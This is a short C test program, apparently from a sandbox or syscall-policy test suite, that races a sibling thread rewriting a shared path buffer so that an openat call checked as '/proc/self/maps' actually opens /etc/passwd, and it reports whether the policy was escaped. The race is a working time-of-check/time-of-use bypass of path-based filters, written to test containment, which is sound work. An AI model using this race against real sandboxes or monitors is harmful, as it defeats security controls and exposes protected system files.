/*
 * claim: swaps an opened path between a harmless probe and /etc/passwd from a sibling thread
 * class: files
 * bare: 1
 * compute: policy-violation openat
 * see: pitfalls 48
 */
#include "attack.h"

static volatile int done;
static char path[32] = "/proc/self/maps";

static void *flip(void *arg)
{
	(void)arg;
	while (!done) {
		__builtin_memcpy((char *)path, "/etc/passwd\0xxxx", 16);
		__asm__ volatile("" ::: "memory");
		__builtin_memcpy((char *)path, "/proc/self/maps", 16);
		__asm__ volatile("" ::: "memory");
	}
	return 0;
}

int main(void)
{
	long probe = 0, forbidden = 0, refusals = 0;
	double end = now() + 1.5;

	thread(flip, 0);
	while (now() < end && !(probe && forbidden)) {
		long fd = syscall(SYS_openat, AT_FDCWD, path, O_RDONLY, 0);

		if (fd < 0) {
			refusals++;
			continue;
		}
		if (is_passwd((int)fd))
			forbidden++;
		else
			probe++;
		close((int)fd);
	}
	done = 1;
	if (forbidden)
		escaped("opened /etc/passwd behind the probe's name");
	if (refusals)
		contained("every open of either path was refused");
	impossible("the race was never won");
}
